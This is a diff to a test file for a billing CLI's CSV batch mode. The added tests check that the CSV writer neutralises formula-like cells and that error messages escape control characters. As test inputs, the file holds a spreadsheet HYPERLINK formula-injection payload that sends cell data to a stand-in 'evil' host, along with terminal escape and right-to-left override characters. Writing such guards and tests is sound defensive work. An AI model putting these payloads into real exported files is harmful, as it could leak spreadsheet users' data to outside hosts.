@@ -2,12 +2,16 @@
  * `credit-rules batch` (README, "Batch evaluation for billing"): through the
  * real CLI process like cli.test.ts — output rows, error rows and stderr
  * lines, exit codes — and in-process for what a process cannot show: the CSV
- * reader at every chunk boundary, output flowing before the input ends,
- * backpressure, and memory that stays flat over hundreds of thousands of rows.
+ * reader at every chunk boundary, the writer's quoting and formula guard on
+ * any text, output flowing before the input ends, backpressure, an output that
+ * fails, and memory that stays flat over hundreds of thousands of rows and
+ * customers. Where the output goes (--out, signals, broken pipes) is in
+ * batch-output.test.ts.
  */
 import assert from 'node:assert/strict';
 import { spawnSync } from 'node:child_process';
-import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { once } from 'node:events';
+import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { PassThrough, Readable, Writable } from 'node:stream';
@@ -15,8 +19,10 @@ import { after, before, describe, it } from 'node:test';
 import { fileURLToPath } from 'node:url';
 import { setFlagsFromString } from 'node:v8';
 import { runInNewContext } from 'node:vm';
+import fc from 'fast-check';
 import { runBatch, type BatchProgram } from '../../src/cli/batch.js';
 import { CsvReader, CsvWriter, MAX_RECORD } from '../../src/cli/csv.js';
+import { REMEMBERED_CUSTOMERS } from '../../src/cli/customers.js';
 import { compile, type CreditOutcome, type InputValues, type Program } from '../../src/index.js';
 
 const BIN = fileURLToPath(new URL('../../bin/credit-rules.js', import.meta.url));
@@ -36,7 +42,7 @@ interface Run {
 const HEADER = 'line,customer,month,currency,credit,percent_of_fee,cuts,error';
 
 function cli(args: string[], stdin?: string): Run {
-  const result = spawnSync(process.execPath, [BIN, ...args], { cwd: dir, encoding: 'utf8', timeout: 30_000, ...(stdin !== undefined ? { input: stdin } : {}) });
+  const result = spawnSync(process.execPath, [BIN, ...args], { cwd: dir, encoding: 'utf8', timeout: 60_000, maxBuffer: 64 << 20, ...(stdin !== undefined ? { input: stdin } : {}) });
   return {
     code: result.status,
     stdout: result.stdout,
@@ -281,22 +287,92 @@ describe('credit-rules batch: CSV as billing systems write it', () => {
   });
 });
 
-describe('credit-rules batch --out', () => {
-  it('writes the output to OUT, nothing to stdout, and leaves no temporary file', () => {
-    const run = cli(['batch', example('points.credit'), '--csv', join(FIXTURES, 'points-year.csv'), '--out', 'credits.csv']);
-    assert.equal(run.code, 0, run.stderr);
-    assert.equal(run.stdout, '');
-    const written = parseOutput(readFileSync(join(dir, 'credits.csv'), 'utf8'));
-    assert.deepEqual(written.map((r) => r.credit), ['400.00', '400.00', '0.00', '400.00', '40.00', '0.00', '400.00']);
-    assert.deepEqual(readdirSync(dir).filter((f) => f.includes('partial')), []);
+describe('credit-rules batch: cells a spreadsheet would run as formulas', () => {
+  const hyperlink = '"=HYPERLINK(""http://evil/?x=""&A1;""click"")"';
+  const csv = [
+    'customer,month,availability,late_incidents',
+    `${hyperlink},1,98%,4`,
+    `${hyperlink},2,98%,4`,
+    '+1 555 0100,1,98%,4',
+    '-5,1,98%,4',
+    '@SUM(A1),1,98%,4',
+    'Globex,=1+2,98%,4',
+    '',
+  ].join('\n');
+  const error = '"the month must be a whole number from 1 to 12, not ""=1+2"""';
+
+  it('customer and month cells starting with =, +, - or @ are written after a single quote, quoted; the numbers we write are not', () => {
+    const run = cli(['batch', example('points.credit'), '--csv', file('formulas.csv', csv)]);
+    assert.equal(run.code, 1);
+    assert.deepEqual(run.stdout.split('\n'), [
+      HEADER,
+      `2,"'=HYPERLINK(""http://evil/?x=""&A1;""click"")",1,EUR,400.00,5,,`,
+      `3,"'=HYPERLINK(""http://evil/?x=""&A1;""click"")",2,EUR,400.00,5,,`,
+      `4,"'+1 555 0100",1,EUR,400.00,5,,`,
+      `5,"'-5",1,EUR,400.00,5,,`,
+      `6,"'@SUM(A1)",1,EUR,400.00,5,,`,
+      `7,Globex,"'=1+2",,,,,${error}`,
+      '',
+    ]);
+    assert.equal(run.errors[0], 'formulas.csv:7: error: the month must be a whole number from 1 to 12, not "=1+2"');
   });
 
-  it('a file that cannot be used leaves OUT as it was', () => {
-    file('kept.csv', 'before\n');
-    const run = cli(['batch', example('points.credit'), '--csv', file('unknown.csv', 'availabilty\n99%\n'), '--out', 'kept.csv']);
-    assert.equal(run.code, 2);
-    assert.equal(readFileSync(join(dir, 'kept.csv'), 'utf8'), 'before\n');
-    assert.deepEqual(readdirSync(dir).filter((f) => f.includes('partial')), []);
+  it('--no-formula-guard writes them as they are', () => {
+    const run = cli(['batch', example('points.credit'), '--csv', file('formulas.csv', csv), '--no-formula-guard']);
+    assert.equal(run.code, 1);
+    assert.deepEqual(run.rows.map((r) => [r.customer, r.month]), [
+      ['=HYPERLINK("http://evil/?x="&A1;"click")', '1'],
+      ['=HYPERLINK("http://evil/?x="&A1;"click")', '2'],
+      ['+1 555 0100', '1'],
+      ['-5', '1'],
+      ['@SUM(A1)', '1'],
+      ['Globex', '=1+2'],
+    ]);
+    assert.match(run.stdout, /\n4,\+1 555 0100,1,EUR,/);
+  });
+
+  it('`batch --help` says so, and how to turn it off', () => {
+    const run = cli(['batch', '--help']);
+    assert.match(run.stdout, /--no-formula-guard\n[^]*single quote/);
+  });
+});
+
+describe('credit-rules batch: what stderr shows of a cell', () => {
+  it('control characters are escapes (NUL, ESC, CR LF, a right-to-left override): the message stays one line and shows what the cell holds', () => {
+    const run = cli(['batch', example('uptime-tiers.credit'), '--csv', file('control.csv', 'availability\n"9\u0000\u001b[2J\r\n\u202e9%"\n')]);
+    assert.equal(run.code, 1);
+    assert.deepEqual(run.errors, [
+      'control.csv:2: error: `availability`: expected a percentage such as 99.5%, but got "9\\x00\\x1b[2J\\r\\n\\u202e9%"',
+      'credit-rules: 1 of 1 rows failed',
+    ]);
+  });
+});
+
+describe('credit-rules batch: customers in any order, in flat memory', () => {
+  /** One-row years of customers `C<n>`, n from `names`, then the rows in `tail`. */
+  const oneRowYears = (names: number[], tail: string[] = []) =>
+    ['customer,month,availability', ...names.map((n) => `C${n},1,98%`), ...tail, ''].join('\n');
+  const count = REMEMBERED_CUSTOMERS + 10;
+
+  it(`a file sorted by customer, in natural order, of more than ${REMEMBERED_CUSTOMERS.toLocaleString('en')} customers: a customer back among the first is named with its line, one past them cannot be checked`, () => {
+    const csv = oneRowYears(Array.from({ length: count }, (_, i) => i + 1), ['C3,1,98%', `C${count - 2},1,98%`]);
+    const run = cli(['batch', example('points.credit'), '--csv', file('sorted.csv', csv), '--jobs', '1']);
+    assert.equal(run.code, 1, run.stderr);
+    assert.deepEqual(run.errors, [
+      `sorted.csv:${count + 2}: error: the rows of customer "C3" are not together: its rows before ended at line 4; sort the file by customer`,
+      `sorted.csv:${count + 3}: error: the rows of customer "C${count - 2}" cannot be checked to be together: the file is not sorted by customer and has more than ${REMEMBERED_CUSTOMERS.toLocaleString('en')} customers, too many to remember; sort the file by customer`,
+      `credit-rules: 2 of ${count + 2} rows failed`,
+    ]);
+  });
+
+  it(`a file in no order: customers are checked while at most ${REMEMBERED_CUSTOMERS.toLocaleString('en')} are remembered; past that, one that sorts before an earlier one is an error`, () => {
+    // n × 7919 mod a prime: every number once, in no order.
+    const names = Array.from({ length: count }, (_, i) => ((i + 1) * 7919) % 100_019);
+    const run = cli(['batch', example('points.credit'), '--csv', file('unsorted.csv', oneRowYears(names)), '--jobs', '1']);
+    assert.equal(run.code, 1);
+    const failed = run.rows.filter((r) => r.error !== '');
+    assert.ok(failed.every((r) => Number(r.line) > REMEMBERED_CUSTOMERS + 2 && /cannot be checked to be together/.test(r.error)));
+    assert.ok(failed.length > 0);
   });
 });
 
@@ -412,6 +488,30 @@ describe('the CSV writer', () => {
     return writer.take().toString('utf8');
   };
 
+  it('any cell reads back as itself, or after a single quote where a spreadsheet would run it; kept or not, the same bytes', () => {
+    const cells = fc.oneof(
+      fc.string({ maxLength: 40, unit: 'binary' }),
+      fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ maxLength: 40, unit: 'binary' })).map(([start, rest]) => start + rest),
+    );
+    fc.assert(fc.property(cells, fc.boolean(), (value, guard) => {
+      const row = (keep: boolean) => {
+        const writer = new CsvWriter(8, guard);
+        if (keep) writer.keep(value);
+        writer.text('x,');
+        writer.cell(value);
+        writer.char(10);
+        return writer.take().toString('utf8');
+      };
+      const text = row(false);
+      assert.equal(row(true), text);
+      const records: string[][] = [];
+      const reader = new CsvReader((fields) => records.push([...fields]), (_line, message) => assert.fail(message));
+      reader.push(text);
+      reader.end();
+      assert.deepEqual(records, [['x', guard && /^[=+\-@\t\r]/.test(value) ? `'${value}` : value]]);
+    }), { seed: 18, numRuns: 2000 });
+  });
+
   it('quotes a field only when it holds a comma, quote or line break, and doubles its quotes', () => {
     const fields = ['ACME', '', 'Globex, Inc.', 'Say "hi"', 'two\nlines', 'cr\r', 'Müller, Zürich', '東京'];
     assert.equal(written((w) => fields.forEach((f, i) => (i > 0 && w.char(44), w.field(f)))),
@@ -488,6 +588,22 @@ describe('runBatch streams', () => {
     assert.match(written, /\n4,,,USD,1000\.00,100,,\n$/);
   });
 
+  it('an output that fails while the batch reads: runBatch rejects with its error, rather than wait for a drain that cannot come', async () => {
+    const input = new PassThrough();
+    let firstWrite: () => void = () => undefined;
+    const written = new Promise<void>((resolve) => (firstWrite = resolve));
+    const output = new Writable({ highWaterMark: 1 << 30, write(_chunk, _encoding, callback) { firstWrite(); callback(); } });
+    const done = runBatch(program('uptime-tiers.credit'), input, output);
+    input.write('availability\n99.5%\n');
+    await written;
+    // As a pipe whose reader went away: the error comes between two writes, and the stream is destroyed.
+    const failed = once(output, 'error');
+    output.destroy(Object.assign(new Error('write EPIPE'), { code: 'EPIPE' }));
+    await failed;
+    input.end('98%\n'.repeat(1000));
+    await assert.rejects(done, { code: 'EPIPE' });
+  });
+
   it('stops reading while the output does not drain (backpressure), and goes on when it does', async () => {
     let produced = 0;
     const input = generated(1_000_000, (i) => {
@@ -522,7 +638,7 @@ describe('runBatch streams', () => {
    * size of all the rows' text (input and output), which is what a reader that
    * held the file or its output would keep.
    */
-  async function heapGrowth(rows: number, row: (i: number) => string, header: string): Promise<{ growth: number; text: number }> {
+  async function heapGrowth(rows: number, row: (i: number) => string, header: string, from = 20_000): Promise<{ growth: number; text: number }> {
     setFlagsFromString('--expose-gc');
     const gc = runInNewContext('gc') as () => void;
     const samples: number[] = [];
@@ -539,7 +655,8 @@ describe('runBatch streams', () => {
     const output = new Writable({ write(chunk, _encoding, callback) { text += chunk.length; callback(); } });
     const outcome = await runBatch(cachedUptime(), input, output);
     assert.deepEqual(outcome, { ok: true, rows, failed: 0 });
-    return { growth: Math.max(...samples.slice(2)) - samples[1], text };
+    const start = from / 20_000;
+    return { growth: Math.max(...samples.slice(start + 1)) - samples[start], text };
   }
 
   it('keeps memory flat: 300,000 single months grow the heap by less than a twentieth of their text', async () => {
@@ -547,8 +664,14 @@ describe('runBatch streams', () => {
     assert.ok(growth < text / 20, `the heap grew by ${growth} bytes; the rows' text is ${text} bytes`);
   });
 
-  it('keeps memory flat in contract years: 300,000 rows of 25,000 customers grow the heap by a small part of their text (the customers seen are kept)', async () => {
+  it('keeps memory flat in contract years: 300,000 rows of 25,000 customers grow the heap by a small part of their text', async () => {
     const { growth, text } = await heapGrowth(300_000, (i) => `Customer number ${Math.floor(i / 12)} of this batch,${(i % 12) + 1},${AVAILABILITY[i % 6]}`, 'customer,month,availability');
     assert.ok(growth < text / 5, `the heap grew by ${growth} bytes; the rows' text is ${text} bytes`);
+  });
+
+  it(`keeps memory flat however many customers: past the ${REMEMBERED_CUSTOMERS.toLocaleString('en')} remembered, 400,000 more one-row customers grow the heap by less than a twentieth of their text`, async () => {
+    const from = REMEMBERED_CUSTOMERS + 20_000;
+    const { growth, text } = await heapGrowth(from + 400_000, (i) => `Customer number ${i} of this batch,1,${AVAILABILITY[i % 6]}`, 'customer,month,availability', from);
+    assert.ok(growth < text / 20, `the heap grew by ${growth} bytes; the rows' text is ${text} bytes`);
   });
 });
